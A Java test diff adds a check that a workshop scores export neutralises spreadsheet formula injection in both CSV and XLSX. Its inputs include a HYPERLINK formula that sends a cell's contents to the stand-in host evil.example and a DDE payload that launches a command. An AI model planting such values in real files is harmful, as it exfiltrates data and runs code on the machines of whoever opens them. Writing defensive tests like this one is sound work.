@@ -199,6 +199,44 @@ class WorkshopRecordsTest {
     }
 
     @Test
+    void textASpreadsheetWouldRunAsAFormulaIsTextInTheCsvAndInTheSpreadsheet() throws Exception {
+        String link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Scores\")";
+        WorkshopId pranked = workshops.create(
+                new NewWorkshop(
+                        "Pranked", LocalDate.of(2026, 12, 1), "homebody", Locale.ENGLISH, List.of(link, "@SUM(1+1)")),
+                AppTest.INSTRUCTOR);
+        TableId first = workshops.snapshot(pranked).tables().get(0).id();
+        TableId second = workshops.snapshot(pranked).tables().get(1).id();
+        scoring.mark(first, "ex2", "complete", 4, "+1+2", 0);
+        Instructor.signInAs("-2+3");
+        scoring.mark(second, "ex2", "complete", 1, "=cmd|' /C calc'!A0", 0);
+        Instructor.signIn();
+
+        byte[] csv = records.scoresCsv(pranked);
+
+        String text = new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8);
+        assertThat(text.lines()).allMatch(line -> line.startsWith("\"") && line.endsWith("\""));
+        List<List<String>> rows = rows(text);
+        assertThat(rows)
+                .flatExtracting(row -> row)
+                .noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0)
+                .contains("'" + link, "'@SUM(1+1)", "'+1+2", "'-2+3", "'=cmd|' /C calc'!A0");
+        try (ReadableWorkbook book = new ReadableWorkbook(new ByteArrayInputStream(records.scoresXlsx(pranked)))) {
+            for (String sheet : List.of("Scores", "Totals")) {
+                List<Row> read = book.findSheet(sheet).orElseThrow().read();
+                assertThat(read)
+                        .flatExtracting(row ->
+                                row.stream().filter(java.util.Objects::nonNull).toList())
+                        .as(sheet + " holds values only, never a formula")
+                        .allMatch(cell -> cell.getType() != org.dhatim.fastexcel.reader.CellType.FORMULA
+                                && cell.getFormula() == null)
+                        .extracting(org.dhatim.fastexcel.reader.Cell::getText)
+                        .contains(link, "@SUM(1+1)");
+            }
+        }
+    }
+
+    @Test
     void onlyAnInstructorDownloadsTheRecord() {
         SecurityContextHolder.clearContext();
         assertThatThrownBy(() -> records.scoresCsv(workshop))
